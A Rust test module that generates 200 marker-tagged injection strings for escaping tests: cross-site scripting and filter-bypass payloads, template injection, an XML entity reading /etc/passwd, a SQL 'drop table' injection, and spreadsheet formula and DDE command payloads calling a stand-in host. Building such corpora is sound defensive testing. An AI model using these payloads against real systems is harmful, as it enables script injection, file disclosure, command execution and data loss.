//! Two hundred strings that become something else where a page, a picture, a table or a paper does not take care.

/// In every string; where it is the name of an element or of an attribute, something was born.
pub const MARK: &str = "kzx";

/// What begins elements, ends the ones they stand in, and breaks out of attributes.
const BEFORE: [&str; 10] =
    ["", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</svg>"];

/// What would run.
const INSIDE: [&str; 14] = [
    "<script kzx>kzx()</script>",
    "<img src=x onerror=kzx() kzx>",
    "<svg/onload=kzx() kzx>",
    "<iframe srcdoc='<script>kzx()</script>' kzx>",
    "<details open ontoggle=kzx() kzx>",
    "<math><mi xlink:href='javascript:kzx()' kzx>",
    "<a href=javascript:kzx() kzx>x</a>",
    "<form action=javascript:kzx() kzx><input type=submit>",
    "<base href=//kzx.test kzx>",
    "<meta http-equiv=refresh content='0;url=javascript:kzx()' kzx>",
    "<style kzx>@import '//kzx.test'</style>",
    "<kzx onmouseover=kzx()>",
    "<!--kzx--><!doctype kzx>",
    "<object data=data:text/html,kzx kzx>",
];

/// What does it by itself.
const ALONE: [&str; 40] = [
    "\" onmouseover=\"kzx()\" kzx=\"",
    "' onmouseover='kzx()' kzx='",
    " onfocus=kzx() autofocus kzx ",
    "` onmouseover=`kzx()` kzx=`",
    "javascript:kzx()",
    "JaVaScRiPt:kzx()//",
    "java\tscript:kzx()",
    "data:text/html;base64,kzxkzxkzx",
    "vbscript:kzx",
    "//kzx.test/",
    "https://kzx.test/",
    "{{7*7}} {{kzx}}",
    "${kzx()} #{kzx} <%= kzx %>",
    "{{constructor.constructor('kzx()')()}}",
    "&lt;script&gt;kzx()&lt;/script&gt;",
    "&#60;script kzx&#62;kzx()",
    "&#x22; onload=kzx kzx=&#x22;",
    "＜script kzx＞kzx()＜/script＞",
    "%3Cscript%20kzx%3Ekzx()",
    "\\x3cscript kzx\\x3ekzx()",
    "\\u003cscript kzx\\u003ekzx()",
    "<scr<script>ipt kzx>kzx()",
    "<<script kzx>kzx()//<</script>",
    "<script/kzx/src=//kzx.test>",
    "<img kzx src=\"x` `<script>kzx()</script>\"` `>",
    "<ScRiPt kzx>kzx()</sCrIpT>",
    "<x kzx/onclick=kzx()>",
    "<svg><script kzx>kzx&#40;&#41;</script>",
    "<svg><animate onbegin=kzx() attributeName=x kzx>",
    "<svg><a xlink:href=javascript:kzx() kzx><text>x</text></a>",
    "<![CDATA[<script kzx>kzx()</script>]]>",
    "<?xml-stylesheet href=javascript:kzx()?>",
    "<!ENTITY kzx SYSTEM 'file:///etc/passwd'>&kzx;",
    "<template kzx><script>kzx()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=kzx() kzx>\">",
    "<textarea kzx autofocus onfocus=kzx()>",
    "<select kzx><option onclick=kzx()>",
    "#set page(fill: kzx) #eval(\"kzx\") $kzx$ @kzx",
    "kzx\\\"};kzx();//",
    "'; drop table account; -- kzx",
];

/// What a spreadsheet would compute; the first eight begin each with another sign.
pub const FORMULAS: [&str; 20] = [
    "=1+1&\"kzx\"",
    "+kzx()+1",
    "-kzx()-1",
    "@SUM(kzx)",
    "＝1+kzx",
    "＋kzx",
    "－kzx",
    "＠kzx",
    "=HYPERLINK(\"http://kzx.test\",\"kzx\")",
    "=cmd|'/C kzx'!A0",
    "=IMPORTXML(\"http://kzx.test\",\"//a\")",
    "=WEBSERVICE(\"http://kzx.test\")",
    "=DDE(\"kzx\",\"a\",\"b\")",
    "=1;kzx",
    "=\"kzx\"",
    "=A1:kzx",
    "@kzx!A1",
    "+1+cmd|' /C kzx'!A0",
    "-2+3+cmd|' /C kzx'!A0",
    "=rundll32|'kzx'!A0",
];

/// All two hundred.
pub fn corpus() -> Vec<String> {
    let born = BEFORE.iter().flat_map(|before| INSIDE.map(|inside| format!("{before}{inside}")));
    let own = ALONE.iter().chain(&FORMULAS).map(|text| (*text).to_owned());
    born.chain(own).collect()
}

#[test]
fn there_are_two_hundred_and_each_bears_the_mark() {
    let corpus = corpus();
    assert_eq!(corpus.len(), 200);
    assert!(corpus.iter().all(|text| text.contains(MARK)));
    assert_eq!(corpus.iter().collect::<std::collections::BTreeSet<_>>().len(), 200, "all differ");
}
